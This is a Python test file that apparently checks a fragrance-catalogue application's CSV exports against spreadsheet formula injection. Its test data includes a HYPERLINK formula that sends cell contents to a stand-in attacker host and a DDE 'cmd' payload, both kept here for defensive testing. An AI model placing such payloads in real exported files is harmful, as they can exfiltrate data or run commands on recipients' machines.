"""Cells that a spreadsheet would run as formulas, in every file of cells that the workbench hands out."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest

from app.ui import resources
from core.fragrance.catalogue import exporting as catalogue_files
from core.fragrance.catalogue.cells import guarded
from core.fragrance.formulas import exchange as formula_files
from core.security.policy import LOCAL_ANALYST
from core.storage import audit
from tests.conftest import PROJECT

CELLS = (
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "＝1+1", "＠a", "=1",
)  # fmt: skip
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Who turns rows into CSV; whatever else is offered as a file of cells goes through one of them.
WRITERS = {"app/ui/resources.py", "core/fragrance/catalogue/exporting.py", "core/fragrance/formulas/exchange.py"}
# What these write nobody is handed: the catalogue's own import reads it, and a sample is made of our own words.
READ_HERE = {"app/api/routes/admin_data.py", "core/customers/samples.py"}
WRITING = {"write_csv", "to_csv", "writerow", "writerows", "DictWriter", "write_excel", "to_excel", "Workbook"}
fault = pytest.mark.fault(
    "CSV injection", "cells and headings that begin with = + - @, tab, line break or their wide forms, in every CSV"
    " that is handed out", "none begins so in the file: a spreadsheet shows text",
)  # fmt: skip


def cells_of(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def of_a_frame(cell: str) -> bytes:
    return resources.as_csv(pl.DataFrame({"name": [cell, "plain"], cell: ["a", "b"]}))


def of_categories(cell: str) -> bytes:
    return resources.as_csv(pl.DataFrame({"name": pl.Series([cell, "plain"], dtype=pl.Categorical)}))


def of_rows(cell: str) -> bytes:
    return resources.rows_as_csv([{"name": cell, "more": 1}])


def of_the_audit_log(cell: str) -> bytes:
    from app.ui.audit.entry_list import Search, export

    audit.note_now(LOCAL_ANALYST, "dataset.stored", cell, name=cell)
    return export(Search("", "", "", "all", None), LOCAL_ANALYST)


def of_the_catalogue(cell: str) -> bytes:
    from dataclasses import replace

    from tests.fragrance import search_home

    search_home.fill([replace(search_home.PERFUMES[0], name=cell.strip() or "x", brand=cell)], encoded=False)
    return catalogue_files.export_csv("perfumes", LOCAL_ANALYST)


def of_a_catalogue_row(cell: str) -> bytes:
    return catalogue_files._csv(["name"], [{"name": cell}])


def of_a_formula_row(cell: str) -> bytes:
    written = io.StringIO(newline="")
    csv.writer(written).writerow([guarded(cell)])
    return written.getvalue().encode()


EXPORTS: tuple[Callable[[str], bytes], ...] = (
    of_a_frame, of_categories, of_rows, of_the_audit_log, of_the_catalogue, of_a_catalogue_row, of_a_formula_row,
)  # fmt: skip


@fault
@pytest.mark.parametrize("export", EXPORTS, ids=lambda one: one.__name__.removeprefix("of_"))
def test_when_cells_would_run_then_the_file_holds_them_as_text(home: Path, export: Callable[[str], bytes]) -> None:
    for cell in CELLS:
        running = [one for one in cells_of(export(cell)) if one.startswith(RUNS)]

        assert not running, (cell, running)


@fault
def test_when_code_writes_rows_then_it_is_one_of_the_writers_that_guard_them() -> None:
    found = set()
    for folder in ("app", "core", "pages"):
        for path in (PROJECT / folder).rglob("*.py"):
            calls = (node for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Call))
            names = {call.func.attr for call in calls if isinstance(call.func, ast.Attribute)}
            if names & WRITING:
                found.add(str(path.relative_to(PROJECT)))

    assert found == WRITERS | READ_HERE
    assert formula_files.csv_of.__module__ == "core.fragrance.formulas.exchange"
